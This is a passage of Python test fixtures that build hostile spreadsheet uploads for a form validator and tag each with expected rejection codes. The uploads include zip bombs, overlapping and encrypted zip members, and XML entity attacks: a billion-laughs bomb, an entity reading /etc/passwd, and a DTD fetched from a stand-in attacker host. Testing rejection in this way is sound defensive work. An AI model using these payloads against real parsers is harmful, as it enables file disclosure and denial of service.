_bad("text named .xlsx", "W104", "W106")(lambda raw: "Họ và tên;Ngày sinh\nLê An;1990\n".encode())
_bad("web page named .xls", "W104", "W106", file="{id}.xls")(lambda raw: b"<html><body><table><tr><td>1</td></tr></table></body></html>")
_bad("PDF named .xlsx", "W108")(lambda raw: b"%PDF-1.7\n" + bytes(200))
_bad("Word named .xlsx", "W108")(lambda raw: pack({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}))
_bad("RAR named .xlsx", "W109", "W104")(lambda raw: b"Rar!\x1a\x07\x01\x00" + bytes(100))
_bad("only zero bytes", "W104", "W110")(lambda raw: bytes(4096))
_add("picture", state=IGNORED, codes=("W131",), file="{id}.png")(lambda raw: b"\x89PNG\r\n\x1a\n" + bytes(50))
_add("lock file", state=IGNORED, codes=("W130",), file="~${id}.xlsx")(lambda raw: bytes(165))
_add("resource fork", state=IGNORED, codes=("W130",), file="._{id}.xlsx")(lambda raw: bytes(165))
_add("half a download", state=IGNORED, codes=("W130",), file="{id}.xlsx.crdownload")(lambda raw: raw[:999])


def _bomb(size: int) -> Build:
    return lambda raw: _in_part(
        raw, _part_of(raw, "Thành tích"), lambda content: content.replace(b"<sheetData>", b"<sheetData>" + b" " * size)
    )


_bad("bomb by ratio", "W111")(_bomb(40 << 20))


@_bad("bomb that lies about its size", "W110", "W111")
def _(raw: bytes) -> bytes:
    size = struct.pack("<I", len(parts(_bomb(40 << 20)(raw))[_part_of(raw, "Thành tích")]))
    bomb = _bomb(40 << 20)(raw)
    return bomb.replace(size, struct.pack("<I", 1000))


@_bad("two parts of one name", "W111")
def _(raw: bytes) -> bytes:
    stream = io.BytesIO(raw)
    with zipfile.ZipFile(stream, "a") as package:
        package.filelist.append(package.getinfo("xl/workbook.xml"))
        package._didModify = True  # type: ignore[attr-defined]
    return stream.getvalue()


@_bad("overlapping members", "W110", "W111")
def _(raw: bytes) -> bytes:
    stream = io.BytesIO(raw)
    with zipfile.ZipFile(stream, "a") as package:
        first = package.getinfo("xl/workbook.xml").header_offset
        for member in package.infolist():
            if member.filename.startswith("xl/worksheets/sheet"):
                member.header_offset = first
        package._didModify = True  # type: ignore[attr-defined]
    return stream.getvalue()


@_bad("encrypted member", "W105")
def _(raw: bytes) -> bytes:
    return re.sub(
        rb"(PK\x01\x02.{4})\x00",
        lambda hit: hit[1] + b"\x01",
        raw.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01"),
        flags=re.DOTALL,
    )


@_bad("thousands of parts", "W111")
def _(raw: bytes) -> bytes:
    return pack({**parts(raw), **{f"xl/media/{n}.bin": b"" for n in range(3000)}})


@_bad("password", "W105")
def _(raw: bytes) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile  # type: ignore[import-untyped]  # noqa: PLC0415

    stream = io.BytesIO()
    OOXMLFile(io.BytesIO(raw)).encrypt("mat-khau-rat-dai", stream)
    return stream.getvalue()


# Refused: the XML -----------------------------------------------------------------------------------------------------

_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(b'<!ENTITY %c "%s">' % (n + 1, b"&%c;" % n * 10) for n in range(97, 106)) + b"]>"


def _doctype(part: str, doctype: bytes) -> Build:
    return lambda raw: _in_part(raw, part, lambda content: re.sub(rb"(\?>)", lambda hit: hit[1] + doctype, content, count=1))


_bad("entities in entities", "W111")(_doctype("xl/sharedStrings.xml", _LAUGHS))
_bad("entity of a file", "W111")(_doctype("xl/workbook.xml", b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
_bad("entity from the network", "W111")(_doctype("xl/worksheets/sheet3.xml", f'<!DOCTYPE x SYSTEM "http://{EVIL}/x.dtd">'.encode()))
_bad("deep nesting", "W110", "W111", "S206", states=(REFUSED, ACCEPTED))(
    lambda raw: _in_part(
        raw,
        _part_of(raw, "Minh chứng"),
        lambda content: content.replace(b"</sheetData>", b"</sheetData>" + b"<a>" * 100_000 + b"</a>" * 100_000),
    )
)


def _cell(place: str, row: int) -> Build:
    extra = f'<row r="{row}"><c r="{place}"><v>1</v></c></row></sheetData>'.encode()
    return lambda raw: _in_part(raw, _part_of(raw, "Minh chứng"), lambda content: content.replace(b"</sheetData>", extra))


_bad("value in the last cell of all", "W112")(_cell("XFD1048576", 1_048_576))
_bad("value in the last row", "W112")(_cell("A1048576", 1_048_576))
_bad("value beyond the last cell", "W110", "W112", "S206")(_cell("ZZZZ99999999", 99_999_999))


@_bad("all the columns there are", "W112")
def _(raw: bytes) -> bytes:
    row = b"".join(b'<c r="%s900"><v>1</v></c>' % get_column_letter(column).encode() for column in range(1, 16_385))
    return _in_part(
        raw, _part_of(raw, "Minh chứng"), lambda content: content.replace(b"</sheetData>", b'<row r="900">' + row + b"</row></sheetData>")
    )


@_bad("one long text two hundred thousand times", "W111", "W110", "W112", "W190", "W191", "W192", "W193", "W194", "W195", "S206")
def _(raw: bytes) -> bytes:
    number = parts(raw)["xl/sharedStrings.xml"].count(b"<si>")
    raw = _in_part(raw, "xl/sharedStrings.xml", lambda content: content.replace(b"</sst>", b"<si><t>" + b"a" * 32_767 + b"</t></si></sst>"))
    letters = [get_column_letter(column).encode() for column in range(1, 101)]
    rows = (
        b'<row r="%d">' % n + b"".join(b'<c r="%s%d" t="s"><v>%d</v></c>' % (letter, n, number) for letter in letters) + b"</row>"
        for n in range(1000, 3000)
    )
    body = b"".join(rows)
    return _in_part(raw, _part_of(raw, "Minh chứng"), lambda content: content.replace(b"</sheetData>", body + b"</sheetData>"))


# Refused: not this form -----------------------------------------------------------------------------------------------


def _passport(key: str, value: str) -> Build:
    """Another statement in all three ways."""

    def edit(raw: bytes) -> bytes:
        members = parts(raw)
        custom = re.sub(rf'(name="form\.{key}"[^>]*><vt:lpwstr>)[^<]*'.encode(), rf"\g<1>{value}".encode(), members["docProps/custom.xml"])
        strings = re.sub(rf"(<t>form\.{key}=)[^<]*".encode(), rf"\g<1>{value}".encode(), members["xl/sharedStrings.xml"])
        return pack({**members, "docProps/custom.xml": custom, "xl/sharedStrings.xml": strings})

    return edit


_bad("another campaign", "W121")(_passport("campaign", "phong-trao-khac"))
_bad("newer version", "W123")(_passport("version", "99"))
_bad("unknown round", "W124")(_passport("round", "dot-la"))
_bad("unknown unit", "W126")(_passport("unit", "KHONGCO"))
_bad("another round", "W125", state=IGNORED)(_passport("round", "tong-ket-2025"))
_odd("older version", codes=("W145",))(_passport("version", "0"))
_bad("some other workbook", "W120")(lambda raw: _in_book(raw, _emptied))


def _emptied(book: Workbook) -> None:
    book.create_sheet("Sheet1").append(["Họ và tên", "Ngày sinh"])
    for sheet in book.worksheets[:-1]:
        del book[sheet.title]
    for name in list(book.defined_names):
        del book.defined_names[name]
    for name in list(book.custom_doc_props.names):
        del book.custom_doc_props[name]


def _without_names(edit: Callable[[Workbook, Mapping[str, Span]], object]) -> Build:
    """A form without its defined names after somebody worked in it."""

    def work(book: Workbook) -> None:
        known = spans(book)
        for name in list(book.defined_names):
            del book.defined_names[name]
        edit(book, known)

    return lambda raw: _in_book(raw, work)


def _head(book: Workbook, span: Span, words: str) -> None:
    book[span.sheet].cell(span.first - 1, span.column).value = words


_bad("sheet deleted", "S201")(_without_names(lambda book, _: book.remove(book["Minh chứng"])))
_bad("column deleted", "S202", "S203")(
    _without_names(lambda book, known: book["Cá nhân"].delete_cols(known["individuals.citizen_id"].column))
)
_bad("heading changed", "S203")(_without_names(lambda book, known: _head(book, known["individuals.citizen_id"], "Số căn cướt")))
_bad("heading twice", "S204")(_without_names(lambda book, known: _head(book, known["individuals.note"], "Họ và tên")))
